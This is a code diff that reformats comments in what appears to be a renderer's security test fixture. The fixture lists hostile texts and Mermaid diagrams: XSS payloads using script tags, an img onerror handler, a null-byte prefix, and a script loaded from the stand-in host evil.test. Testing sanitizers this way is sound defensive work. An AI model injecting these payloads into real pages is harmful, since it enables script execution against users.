@@ -1,7 +1,9 @@
 const run = 'window.__xss=1';
 const evil = 'https://evil.test';
 
-/** Texts that have broken other renderers, or try to. Each calls `window.__xss` or fetches from `evil.test`. */
+/**
+ * Texts that have broken other renderers or try to. Each calls `window.__xss` or fetches from `evil.test`.
+ */
 export const HOSTILE_TEXTS: readonly string[] = [
   `<script>${run}</script>`,
   `<SCRIPT SRC=${evil}/x.js></SCRIPT>`,
@@ -124,7 +126,6 @@ export const HOSTILE_TEXTS: readonly string[] = [
   `\u0000<script>${run}</script>`,
 ];
 
-/** Diagrams that try to run, restyle, link or fetch. */
 export const HOSTILE_DIAGRAMS: readonly string[] = [
   `graph TD\nA["<img src=x onerror=${run}>"] --> B`,
   `graph TD\nA["<script>${run}</script>"]`,
